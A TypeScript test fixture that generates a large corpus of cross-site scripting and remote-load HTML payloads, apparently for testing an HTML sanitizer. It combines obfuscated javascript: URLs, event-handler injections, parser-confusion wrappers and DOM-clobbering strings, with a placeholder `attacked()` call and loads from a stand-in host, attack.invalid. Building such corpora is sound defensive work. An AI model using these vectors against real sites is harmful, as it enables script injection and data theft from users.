/**
 * HTML that tries to run, load or navigate (HOME-31x): hand-written classics, and each of a set of vectors in each of a set
 * of disguises. Code that runs calls `attacked()`; a resource that loads requests `attack.invalid`.
 */

const run = 'attacked()';
const far = 'https://attack.invalid/';

/** Ways to carry a script address past a filter that looks at text. */
const scriptAddresses: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java\r\nscript:${run}`,
  `javascript\t:${run}`,
  `&#106;avascript:${run}`,
  `&#x6a;avascript:${run}`,
  `&#0000106avascript:${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script:${run}`,
  `javascript&colon;${run}`,
  `&#1;javascript:${run}`,
  `&nbsp;javascript:${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `blob:${far}1`,
  `view-source:javascript:${run}`,
  `javascript://%0a${run}`,
  `feed:javascript:${run}`,
  `livescript:${run}`,
];

/** Elements that follow, open, submit to or load an address. */
const carriers: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' target=_self>x</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button autofocus>x</button></form>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<math href="${address}">x</math>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<base href="${address}"><a href="x">x</a>`,
  (address) => `<meta http-equiv="refresh" content="0;url=${address}">`,
];

const events = [
  'error',
  'load',
  'click',
  'focus',
  'mouseover',
  'pointerenter',
  'animationstart',
  'toggle',
  'begin',
  'beforetoggle',
];
/** Elements whose events fire by themselves or by a touch. */
const handlers: readonly ((event: string) => string)[] = [
  (event) => `<img src=x on${event}=${run}>`,
  (event) => `<svg/on${event}=${run}>`,
  (event) => `<body on${event}=${run}>`,
  (event) => `<details open on${event}=${run}>`,
  (event) => `<p tabindex=0 autofocus on${event}="${run}">x`,
  (event) => `<video src=x on${event}=${run}><source on${event}=${run}></video>`,
  (event) => `<a href="/" on${event}\n=\n"${run}">x</a>`,
  (event) => `<table background=x on${event.toUpperCase()}='${run}'><td>x`,
];

/** Shapes around an attack that make parsers lose their place. */
const wrappers: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `<noscript><p title="</noscript>${attack}">`,
  (attack) => `<math><mtext><table><mglyph><style><!--</style>${attack}`,
  (attack) => `<svg></p><style><a id="</style>${attack}">`,
  (attack) => `<template>${attack}</template>`,
  (attack) => `<textarea></textarea>${attack}`,
  (attack) => `<title></title>${attack}`,
  (attack) => `<xmp></xmp>${attack}`,
  (attack) => `<select><option></select>${attack}`,
  (attack) => `<!--><!--${attack}-->${attack}`,
  (attack) => `<![CDATA[>]]>${attack}`,
  (attack) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${attack}">`,
  (attack) => `<svg><foreignObject>${attack}</foreignObject></svg>`,
  (attack) => `<div><p><b><i>${attack}</p></div>`,
];

const cores: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt src=${far}x.js></sCrIpT>`,
  `<img src=x onerror=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg onload=${run}></svg>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<style>@import '${far}x.css';*{background:url(${far}x.png)}</style>`,
  `<link rel=stylesheet href=${far}x.css>`,
  `<img src="${far}pixel.png" srcset="${far}2x.png 2x">`,
  `<object data="${far}x.swf"></object>`,
];

const classics: readonly string[] = [
  `<<script>${run}//<</script>`,
  `<script\\x20type="text/javascript">${run};</script>`,
  `<img """><script>${run}</script>">`,
  `<img src=x:x onerror=${run} onerror=${run}>`,
  `<svg><animate attributeName=href values=javascript:${run} /><a><text y=20>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${run}></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"></svg>`,
  `<p style="background:url('javascript:${run}')">x</p>`,
  `<p style="background-image:url(${far}css.png)">x</p>`,
  `<div style="position:fixed;inset:0;z-index:9999"><a href="${far}">x</a></div>`,
  `<a href="${far}" style="position:fixed;inset:0">x</a>`,
  `<input onfocus=${run} autofocus>`,
  `<keygen autofocus onfocus=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<isindex type=image src=1 onerror=${run}>`,
  `<audio src=x onerror=${run} autoplay>`,
  `<video poster="${far}p.png"></video>`,
  `<picture><source srcset="${far}s.png"><img src="data:image/png;base64,AAAA"></picture>`,
  `<a id=location name=cookie href="/x">x</a><a id=location href="/y">y</a>`,
  `<form id=attributes><input name=childNodes><input name=parentNode></form>`,
  `<img name=body src=x onerror=${run}><img name=getElementById>`,
  `<a href="/x" ping="${far}ping">x</a>`,
  `<a href="/x" download onclick=${run}>x</a>`,
  `<area shape=default href="javascript:${run}">`,
  `<img usemap=#m src=x><map name=m><area coords="0,0,99,99" href="javascript:${run}"></map>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<input type=image src=x formaction="javascript:${run}">`,
  `<frameset onload=${run}><frame src="javascript:${run}"></frameset>`,
  `<plaintext><script>${run}</script>`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<x contenteditable onblur=${run}>x</x>`,
  `<custom-element onclick=${run} is=x-y>x</custom-element>`,
  `<slot name=x></slot><div slot=x onclick=${run}>x</div>`,
  `<div><template shadowrootmode=open><script>${run}</script></template></div>`,
  `<portal src="${far}"></portal>`,
  `<fencedframe src="${far}"></fencedframe>`,
  `<meta name=referrer content=unsafe-url>`,
  `<link rel=prefetch href="${far}p"><link rel=dns-prefetch href="${far}">`,
  `<script type=importmap>{"imports":{"a":"${far}a.js"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${far}"]}]}</script>`,
  `<b/title="x"/onclick=${run}/>x</b>`,
  `<p/onclick\u000c=${run}>x`,
  `<img src=\`x\` onerror=\`${run}\`>`,
  `<img src="x" alt="\`\`onerror=${run}">`,
  `\u0000<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `<img src=x onerror\u0000=${run}>`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `\u2028<script>${run}</script>\u2029`,
  `<a href="https://user:pass@attack.invalid/">x</a>`,
  `<a href="\\\\attack.invalid\\x">x</a>`,
  `<a href="//attack.invalid">x</a>`,
  `${'<b>'.repeat(600)}<img src=x onerror=${run}>`,
  `<p>${'&'.repeat(3000)}<script>${run}</script>`,
];

const unique = (list: readonly string[]): readonly string[] => [...new Set(list)];

/** The corpus; at least 500 strings, none twice, always the same. */
export const htmlAttacks: readonly string[] = unique([
  ...classics,
  ...wrappers.flatMap((wrap) => cores.map(wrap)),
  ...scriptAddresses.flatMap((address) => carriers.map((carry) => carry(address))),
  ...events.flatMap((event) => handlers.map((handle) => handle(event))),
  ...wrappers
    .slice(1, 4)
    .flatMap((wrap) => scriptAddresses.slice(0, 8).map((address) => wrap(`<a href="${address}">x</a>`))),
]);
